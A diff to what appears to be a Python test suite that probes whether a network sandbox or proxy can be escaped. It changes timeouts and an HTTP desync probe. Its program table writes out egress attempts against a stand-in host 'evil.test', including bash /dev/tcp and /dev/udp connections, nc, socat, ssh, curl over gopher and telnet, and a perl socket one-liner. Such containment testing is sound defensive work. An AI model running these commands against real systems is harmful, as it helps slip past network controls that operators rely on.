@@ -12,8 +12,9 @@ import struct
 import subprocess
 import time
 
-from attempts import (EVIL, EVIL6, META, OPEN, PRIVATE, PROXY, WEB, attempt,
-                      everything, hello, libc, query, talk, udp, via_proxy)
+from attempts import (EVIL, EVIL6, META, OPEN, PATIENCE, PRIVATE, PROXY, WEB,
+                      attempt, everything, hello, libc, query, talk, udp,
+                      via_proxy)
 
 CRLF = b"\r\n"
 
@@ -172,14 +173,12 @@ for name, text in {
             lambda: reached(*(text[i:i + 40] for i in range(0, len(text), 40))))
 
 
-
 def left_over():
-    """The answer to a request that was another one's body."""
-    for _ in range(30):
-        text = HEAD + b"Content-Length: %d\r\n\r\n" % len(ORIGIN) + ORIGIN
-        if got := reached(text) or reached(HEAD + b"Connection: close\r\n\r\n"):
-            return got
-    return None
+    """The answer to a request that was another one's body: it comes when the
+    connection has got its next request (internet.py, /late)."""
+    late = ORIGIN.replace(b"/", b"/late", 1)
+    text = HEAD + b"Content-Length: %d\r\n\r\n" % len(late) + late
+    return reached(text) or reached(HEAD + b"Connection: close\r\n\r\n")
 
 
 attempt("desync/answer left over", left_over)
@@ -221,7 +220,7 @@ for name, text in {
 
 def waiting():
     """The method alone, and the rest when it has gone on."""
-    s = socket.create_connection(PROXY, 2)
+    s = socket.create_connection(PROXY, PATIENCE)
     s.settimeout(1)
     s.sendall(TUNNEL)
     s.recv(1000)
@@ -344,7 +343,7 @@ BAD = b"\4evil\4test\0"
 
 def over_tcp(q, split=0):
     s = socket.socket()
-    s.settimeout(2)
+    s.settimeout(PATIENCE)
     s.connect(("8.8.8.8", 53))
     data = struct.pack(">H", len(q)) + q
     for i in range(0, len(data), split or len(data)):
@@ -486,7 +485,7 @@ attempt("bent/fast open then write", bent(6, 30, 1))
 def scoped(host, scope):
     def function():
         s = socket.socket(socket.AF_INET6)
-        s.settimeout(2)
+        s.settimeout(PATIENCE)
         s.connect((host, 80, 0, scope))
         return talk(s)
     return function
@@ -575,7 +574,7 @@ def flags(flag):
     def function():
         s = socket.socket()
         r = s.sendto(b"GET / HTTP/1.0\r\n\r\n", flag, (EVIL, 80))
-        s.settimeout(2)
+        s.settimeout(PATIENCE)
         return s.recv(100) if r else None
     return function
 
@@ -659,7 +658,7 @@ def take_port(family, host, option):
         s.listen()
         s.settimeout(0.3)
         for _ in range(8):
-            c = socket.create_connection(PROXY, 1)
+            c = socket.create_connection(PROXY, PATIENCE)
             try:
                 s.accept()
                 return "took a connection"
@@ -700,7 +699,7 @@ for name, text in {
 def program(*argv, env=None):
     def function():
         try:
-            p = subprocess.run(argv, capture_output=True, timeout=4,
+            p = subprocess.run(argv, capture_output=True, timeout=PATIENCE,
                                env={**os.environ, **(env or {})},
                                stdin=subprocess.DEVNULL)
         except FileNotFoundError:
@@ -714,7 +713,7 @@ def program(*argv, env=None):
 
 
 E80, E443 = "http://evil.test/", "https://evil.test/"
-CURL = ("curl", "-ksS", "--max-time", "2")
+CURL = ("curl", "-ksS", "--max-time", "30")
 for name, argv in {
         "curl": CURL + (E80,), "curl tls": CURL + (E443,),
         "curl noproxy": CURL + ("--noproxy", "*", E80),
@@ -749,7 +748,7 @@ for name, argv in {
         "curl tftp": CURL + ("tftp://" + EVIL + "/x",),
         "curl gopher": CURL + ("gopher://" + EVIL + ":80/_GET%20/",),
         "curl telnet": CURL + ("telnet://" + EVIL + ":80",),
-        "wget": ("wget", "-qO-", "-t1", "-T2", "--no-proxy", E80),
+        "wget": ("wget", "-qO-", "-t1", "-T30", "--no-proxy", E80),
         "bash tcp": ("bash", "-c", "exec 3<>/dev/tcp/%s/80; printf 'GET / "
                      "HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3" % EVIL),
         "bash udp": ("bash", "-c", "echo x >/dev/udp/%s/443 && echo host="
@@ -757,7 +756,7 @@ for name, argv in {
         "git": ("git", "ls-remote", "git://" + EVIL + "/x"),
         "nc": ("nc", "-w1", EVIL, "80"), "socat": ("socat", "-",
                                                    "TCP:" + EVIL + ":80"),
-        "ssh": ("ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=2",
+        "ssh": ("ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=30",
                 "-o", "StrictHostKeyChecking=no", "-p", "80", EVIL),
         "openssl": ("openssl", "s_client", "-connect", EVIL + ":443"),
         "openssl good name": ("openssl", "s_client", "-servername",
@@ -768,7 +767,7 @@ for name, argv in {
         "node fetch": ("node", "-e", "fetch('%s').then(r=>r.text()).then("
                        "console.log,()=>{})" % E80),
         "perl": ("perl", "-MIO::Socket::INET", "-e", "$s = "
-                 "IO::Socket::INET->new(PeerAddr=>'%s:80',Timeout=>2) or exit; "
+                 "IO::Socket::INET->new(PeerAddr=>'%s:80',Timeout=>30) or exit; "
                  "print $s qq(GET / HTTP/1.0\\r\\n\\r\\n); print <$s>" % EVIL),
         "ping": ("ping", "-c1", "-W1", EVIL)}.items():
     attempt("programs/" + name, program(*argv))
@@ -803,8 +802,8 @@ works("websocket in a tunnel", everything(
 
 def banner(text):
     """A protocol that is none of ours, typed slowly."""
-    s = socket.create_connection(PROXY, 2)
-    s.settimeout(3)
+    s = socket.create_connection(PROXY, PATIENCE)
+    s.settimeout(PATIENCE)
     s.sendall(b"CONNECT ssh.good.test:22 HTTP/1.1\r\n"
               b"Host: ssh.good.test:22\r\n\r\n")
     data = b""
